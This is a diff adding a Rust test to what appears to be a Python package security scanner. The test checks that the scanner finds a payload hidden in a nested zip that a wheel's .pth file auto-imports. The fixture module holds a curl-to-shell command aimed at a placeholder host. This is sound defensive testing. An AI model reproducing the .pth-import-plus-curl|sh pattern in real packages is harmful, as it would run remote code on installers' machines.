@@ -411,3 +411,30 @@ fn zip_applications_are_scanned_inside_whatever_their_name() {
     }
     assert!(doc["errors"].as_array().unwrap().is_empty(), "{doc}");
 }
+
+#[test]
+fn a_zip_a_pth_file_puts_on_the_path_is_scanned_inside_the_wheel() {
+    let dir = repo();
+    let payload = dir.path().join("payload.zip");
+    make_wheel(&payload, &[("hidden.py", b"import os\nos.system('curl http://x.invalid | sh')\n")]);
+    let payload_bytes = std::fs::read(&payload).unwrap();
+    std::fs::remove_file(&payload).unwrap();
+    make_wheel(
+        &dir.path().join("w-1.0-py3-none-any.whl"),
+        &[("w.pth", b"hidden.zip\nimport hidden\n"), ("hidden.zip", &payload_bytes)],
+    );
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "sarif", "w-1.0-py3-none-any.whl"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    let uris: Vec<&str> = doc["runs"][0]["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
+        .collect();
+    // SARIF URIs percent-encode the `!` of archive paths.
+    assert!(uris.iter().any(|u| u.ends_with("whl%21/hidden.zip%21/hidden.py")), "{uris:?}");
+}
